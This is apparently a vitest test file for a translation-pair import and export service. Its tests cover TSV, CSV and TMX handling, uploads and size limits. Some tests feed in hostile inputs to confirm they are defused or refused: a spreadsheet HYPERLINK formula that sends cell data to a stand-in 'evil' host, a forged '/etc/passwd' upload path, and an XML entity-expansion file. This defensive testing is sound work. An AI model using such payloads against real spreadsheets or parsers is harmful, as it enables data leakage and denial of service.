import { existsSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseDelimited } from '../../../shared/formats/delimited';
import { MAX_PAIR_DATA_BYTES } from '../../../shared/formats/contract';
import { writeTmx } from '../../../shared/formats/tmx';
import type { Handlers } from '../../../shared/ipc/contract';
import { dispatch } from '../../../shared/ipc/dispatch';
import { openServices } from '../handlers';
import { tempDirs } from '../test-support';

const bundled = join(import.meta.dirname, '..', '..', '..', 'corpus');
const temp = tempDirs('facing-pairs-');
const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
}, 60_000);

async function opened() {
  const services = await openServices({ dataDir: temp(), corpusDir: bundled, shell: 'web', version: 'test', warmAfterMs: 60_000 });
  closers.push(services.close);
  return services;
}

async function services(): Promise<Handlers> {
  return (await opened()).handlers;
}

async function call<C extends keyof Handlers>(h: Handlers, channel: C, payload: unknown) {
  const result = await dispatch(h, channel, payload);
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`);
  return result.value as Awaited<ReturnType<Handlers[C]>>;
}

async function importPair(h: Handlers, name: string, text: string) {
  const outcome = await call(h, 'pairs:import', { name, data: Buffer.from(text).toString('base64') });
  if (!('left' in outcome)) throw new Error('asked to choose');
  return outcome;
}

describe('pair files in and out', { timeout: 60_000 }, () => {
  it('a file whose two sides are the same text makes two documents, and finds them again', async () => {
    const h = await services();
    const first = await importPair(h, 'cities.tsv', 'en\tde\nBerlin\tBerlin\nParis\tParis\n');
    expect(first.left.id).not.toBe(first.right.id);
    expect(first.rows).toBe(2);
    const [a, b] = await Promise.all([call(h, 'documents:get', { id: first.left.id }), call(h, 'documents:get', { id: first.right.id })]);
    expect([a.meta.language, b.meta.language]).toEqual(['en', 'de']);
    expect(a.text).toBe(b.text);
    const again = await importPair(h, 'cities.tsv', 'en\tde\nBerlin\tBerlin\nParis\tParis\n');
    expect([again.left.id, again.right.id]).toEqual([first.left.id, first.right.id]);
  });

  it('exports TSV and CSV with formula cells defused and the text of each row as the document has it', async () => {
    const h = await services();
    const rows = ['"=HYPERLINK(""http://evil/?""&A1)"\t@SUM(A1)', '+1+2 then more.\t-2+3', '<![CDATA[x]]> here.\tHier.'];
    const pair = await importPair(h, 'evil.tsv', `en\tde\n${rows.join('\n')}\n`);
    const tsv = await call(h, 'pairs:export', { left: pair.left.id, right: pair.right.id, format: 'tsv' });
    const csv = await call(h, 'pairs:export', { left: pair.left.id, right: pair.right.id, format: 'csv' });
    expect(csv.name).toMatch(/\.csv$/);
    expect(csv.mime).toBe('text/csv');
    for (const [text, delimiter] of [
      [tsv.text!, '\t'],
      [csv.text!, ','],
    ] as const) {
      const cells = parseDelimited(text, delimiter).slice(1).map((r) => [r[1], r[2]]);
      expect(cells).toEqual([
        [`'=HYPERLINK("http://evil/?"&A1)`, `'@SUM(A1)`],
        [`'+1+2 then more.`, `'-2+3`],
        ['<![CDATA[x]]> here.', 'Hier.'],
      ]);
    }
  });

  it('a TMX imports as rows that hold when the pair is opened, sentences split as the library splits them', async () => {
    const h = await services();
    const units: Array<[string, string]> = [
      ['Press OK.', 'Drücken Sie OK.'],
      ['Dr. Smith arrived at 5 p.m. Then he left.', 'Dr. Smith kam um 17 Uhr. Dann ging er, z. B. nach Hause.'],
      ['Really?! Yes.', 'Wirklich?! Ja.'],
      ['Only English.', ''],
      ['He said "stop." Then he left.', 'Er sagte „Halt.“ Dann ging er am 22. Dezember.'],
    ];
    const pair = { source: 'en', target: 'de', units: units.map(([source, target], k) => ({ source, target, checked: k === 1, confidence: 0.5 })) };
    const tmx = writeTmx(pair, { singleLanguage: true }).text;
    const imported = await importPair(h, 'manual.tmx', tmx);
    expect(imported.rows).toBe(5);
    const alignment = await call(h, 'alignment:get', { left: imported.left.id, right: imported.right.id });
    expect(alignment.edited).toBe(true);
    const [a, b] = await Promise.all([call(h, 'documents:get', { id: imported.left.id }), call(h, 'documents:get', { id: imported.right.id })]);
    const textOf = (doc: typeof a, ids: string[]) => ids.map((id) => doc.paragraphs.flatMap((p) => p.sentences).find((s) => s.id === id)!).map((s) => doc.text.slice(s.start, s.end)).join(' ');
    expect(alignment.rows.map((r) => [textOf(a, r.a), textOf(b, r.b)])).toEqual(units);
    expect(alignment.rows.map((r) => r.a.length)).toEqual([1, 2, 2, 1, 2]);
    expect(alignment.rows.map((r) => r.checked)).toEqual([false, true, false, false, false]);
  });

  it('hands the event loop back while a big TMX is read and stored', async () => {
    const h = await services();
    const units = Array.from({ length: 20_000 }, (_, k) => ({ source: `Unit number ${k} of the file.`, target: `Einheit Nummer ${k} der Datei.` }));
    const data = Buffer.from(writeTmx({ source: 'en', target: 'de', units }).text).toString('base64');
    let turns = 0;
    let importing = true;
    const turn = () => {
      turns++;
      if (importing) setImmediate(turn);
    };
    setImmediate(turn);
    const answered: string[] = [];
    const info = call(h, 'app:info', {}).then(() => answered.push('info'));
    const imported = call(h, 'pairs:import', { name: 'big.tmx', data }).then((outcome) => (answered.push('import'), outcome));
    const outcome = await imported;
    importing = false;
    await info;
    expect('rows' in outcome && outcome.rows).toBe(20_000);
    expect(answered).toEqual(['info', 'import']);
    // 20,000 units are ten slices per side of building; a blocking import turns the loop a handful of times.
    expect(turns).toBeGreaterThan(20);
  });

  it('imports an uploaded file read from disk, reports how far it is, and lets go of the upload', async () => {
    const { handlers: h, uploads } = await opened();
    const dir = temp();
    const path = join(dir, 'picked.tmx');
    const units = Array.from({ length: 12_000 }, (_, k) => ({ source: `Unit number ${k} of the file. It has two sentences.`, target: `Einheit Nummer ${k} der Datei.` }));
    // Bigger than one read chunk, so the file is parsed as it is read.
    writeFileSync(path, writeTmx({ source: 'en', target: 'de', units }).text);
    expect(statSync(path).size).toBeGreaterThan(2 * 1024 * 1024);
    const upload = await uploads.fromPath(path, 10 * 1024 * 1024);
    const seen: number[] = [];
    let importing = true;
    const ask = async () => {
      while (importing) {
        const p = await call(h, 'pairs:progress', { upload });
        if (p) seen.push(p.done);
        await new Promise((resolve) => setImmediate(resolve));
      }
    };
    const asking = ask();
    const outcome = await call(h, 'pairs:import', { name: 'picked.tmx', upload });
    importing = false;
    await asking;
    expect('rows' in outcome && outcome.rows).toBe(12_000);
    expect(seen.length).toBeGreaterThan(3);
    expect(seen.some((d) => d > 0 && d < 0.5)).toBe(true);
    expect(seen.some((d) => d >= 0.5)).toBe(true);
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    expect(await call(h, 'pairs:progress', { upload })).toBeNull();
    const left = await call(h, 'documents:get', { id: 'left' in outcome ? outcome.left.id : '' });
    expect(left.paragraphs).toHaveLength(12_000);
    expect(left.paragraphs[11_999]!.sentences).toHaveLength(2);
    // Done with: the handle is gone, the user's file stays.
    const again = await dispatch(h, 'pairs:import', { name: 'picked.tmx', upload });
    expect(again.ok).toBe(false);
    if (!again.ok) expect(again.error.message).toMatch(/no longer at hand/);
    expect(existsSync(path)).toBe(true);
  });

  it('imports an upload asked for twice at once once: the same request gets the same pair, another finds the upload used', async () => {
    const { handlers: h, uploads } = await opened();
    const path = join(temp(), 'twice.tmx');
    const units = Array.from({ length: 6000 }, (_, k) => ({ source: `Unit ${k} of the file.`, target: `Einheit ${k} der Datei.` }));
    writeFileSync(path, writeTmx({ source: 'en', target: 'de', units }).text);
    const upload = await uploads.fromPath(path, 10 * 1024 * 1024);
    const [first, same, other] = await Promise.all([
      dispatch(h, 'pairs:import', { name: 'first.tmx', upload }),
      dispatch(h, 'pairs:import', { name: 'first.tmx', upload }),
      dispatch(h, 'pairs:import', { name: 'second.tmx', upload }),
    ]);
    if (!first.ok || !same.ok) throw new Error('the first import failed');
    const ids = (outcome: unknown) => {
      const { left, right } = outcome as { left: { id: string }; right: { id: string } };
      return [left.id, right.id];
    };
    expect(ids(same.value)).toEqual(ids(first.value));
    expect(other.ok).toBe(false);
    if (!other.ok) expect(other.error.message).toMatch(/no longer at hand/);
    const made = (await call(h, 'documents:list', {})).filter((d) => d.origin === 'imported');
    expect(made.map((d) => [d.title, d.originalName]).sort()).toEqual([
      ['first (de)', 'first.txt'],
      ['first (en)', 'first.txt'],
    ]);
  });

  it('takes a file sent inline up to its limit and sends a bigger one to the upload', async () => {
    const h = await services();
    const limit = Math.ceil(MAX_PAIR_DATA_BYTES / 3) * 4;
    const over = await dispatch(h, 'pairs:import', { name: 'big.tsv', data: '/f79'.repeat(limit / 4 + 2) });
    expect(over.ok).toBe(false);
    if (!over.ok) expect(over.error.message).toBe('A file of pairs sent in the request is limited to 16 MB; a bigger one (up to 160 MB) goes as an upload.');
    // At the limit the file is read: these bytes are no UTF-8, which is what it says.
    const at = await dispatch(h, 'pairs:import', { name: 'big.tsv', data: '/f79'.repeat(limit / 4) });
    expect(at.ok).toBe(false);
    if (!at.ok) expect(at.error.message).toMatch(/"big\.tsv" is not valid UTF-8/);
  });

  it('keeps an upload while the language pair is asked for, and refuses a request with both or neither form of the file', async () => {
    const { handlers: h, uploads } = await opened();
    const path = join(temp(), 'three.tmx');
    writeFileSync(
      path,
      '<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>One.</seg></tuv><tuv xml:lang="de"><seg>Eins.</seg></tuv><tuv xml:lang="fr"><seg>Un.</seg></tuv></tu></body></tmx>',
    );
    const upload = await uploads.fromPath(path, 1024);
    expect(await call(h, 'pairs:import', { name: 'three.tmx', upload })).toEqual({ choose: ['en', 'de', 'fr'] });
    const outcome = await call(h, 'pairs:import', { name: 'three.tmx', upload, source: 'en', target: 'fr' });
    expect('right' in outcome && outcome.right.language).toBe('fr');
    const both = await dispatch(h, 'pairs:import', { name: 'three.tmx', upload, data: 'AAAA' });
    const neither = await dispatch(h, 'pairs:import', { name: 'three.tmx' });
    const forged = await dispatch(h, 'pairs:import', { name: 'three.tmx', upload: '/etc/passwd' });
    for (const refused of [both, neither, forged]) expect(refused.ok).toBe(false);
  });

  it('refuses a hostile file read from disk as it refuses one sent whole, and releases the upload', async () => {
    const { handlers: h, uploads } = await opened();
    const dir = temp();
    // Invalid UTF-8 far past the first read chunk.
    const path = join(dir, 'bad.tmx');
    const good = writeTmx({ source: 'en', target: 'de', units: Array.from({ length: 8000 }, (_, k) => ({ source: `Unit ${k} here.`, target: `Einheit ${k} hier.` })) }).text;
    const cut = good.indexOf('</body>');
    writeFileSync(path, Buffer.concat([Buffer.from(good.slice(0, cut)), Buffer.from([0xc3, 0x28]), Buffer.from(good.slice(cut))]));
    expect(statSync(path).size).toBeGreaterThan(1024 * 1024);
    const upload = await uploads.fromPath(path, 10 * 1024 * 1024);
    const refused = await dispatch(h, 'pairs:import', { name: 'bad.tmx', upload });
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.error.message).toMatch(/"bad\.tmx" is not valid UTF-8/);
    expect(() => uploads.get(upload)).toThrow();
    const entities = join(dir, 'evil.xlf');
    writeFileSync(entities, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><xliff version="1.2"><file source-language="en" target-language="de"><body><trans-unit id="1"><source>&b;</source><target>x</target></trans-unit></body></file></xliff>');
    const evil = await dispatch(h, 'pairs:import', { name: 'evil.xlf', upload: await uploads.fromPath(entities, 1024) });
    expect(evil.ok).toBe(false);
    if (!evil.ok) expect(evil.error.message).toMatch(/entit/i);
    expect((await call(h, 'documents:list', {})).some((d) => d.title.startsWith('bad') || d.title.startsWith('evil'))).toBe(false);
  });

  it('names the file in what it refuses', async () => {
    const h = await services();
    const refused = await dispatch(h, 'pairs:import', { name: 'huge.csv', data: Buffer.from(`en,de\nBerlin,${'x'.repeat(1_100_000)}\n`).toString('base64') });
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.error.message).toMatch(/"huge\.csv".*row 2/);
  });
});
